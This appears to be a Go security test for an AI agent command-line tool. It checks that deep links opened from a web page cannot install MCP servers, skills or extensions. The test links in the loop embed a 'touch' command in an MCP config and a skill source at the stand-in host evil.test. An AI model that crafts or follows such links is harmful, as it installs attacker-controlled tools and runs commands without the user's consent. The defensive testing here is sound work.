//go:build sectest

package security

import (
	"net/url"
	"path/filepath"
	"strings"
)

// linksThatInstall are what a page has a desktop open: the program of the link is
// started with it as an argument, alone or as words to work on.
func linksThatInstall(a *attackEnv) {
	touch := url.QueryEscape(`{"command":"touch","args":["` + a.canary("link") + `"]}`)
	for _, link := range []string{
		"pawl://mcp/install?name=x&config=" + touch,
		"pawl:skills/add?source=https://evil.test/skill&yes=true",
		"goose://extension?cmd=touch&arg=" + url.QueryEscape(a.canary("link")) + "&id=x&name=x",
		"cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=" + touch,
	} {
		if out := a.pawl(link); out.Code != 2 {
			a.breach("pawl %s ends with %d: %s", link, out.Code, out.Stdout)
		}
		a.write("s.jsonl", `{"text":"read"}`)
		if out := a.pawl("run", "--model", "script:s.jsonl", link); out.Code != 0 {
			a.Fatalf("the link was not worked on: %s", out.Stderr)
		}
	}
	a.canaries()
	for _, kind := range []string{"mcp", "skills", "agents", "commands"} {
		if out := a.pawl(kind, "list"); strings.Contains(out.Stdout, "evil") || strings.Contains(out.Stdout, "touch") {
			a.breach("a link has brought %s: %s", kind, out.Stdout)
		}
	}
	for _, path := range []string{".local/share/applications", ".config/mimeapps.list"} {
		if a.exists(filepath.Join(a.home, path)) {
			a.breach("pawl has registered itself for links: %s", path)
		}
	}
}
